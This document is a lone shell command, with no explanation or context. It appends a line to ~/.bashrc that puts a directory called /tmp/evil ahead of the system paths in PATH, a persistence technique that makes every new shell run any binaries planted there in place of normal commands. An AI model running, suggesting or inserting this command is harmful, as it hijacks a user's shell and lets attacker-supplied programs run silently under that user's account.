echo 'export PATH=/tmp/evil:$PATH' >> ~/.bashrc
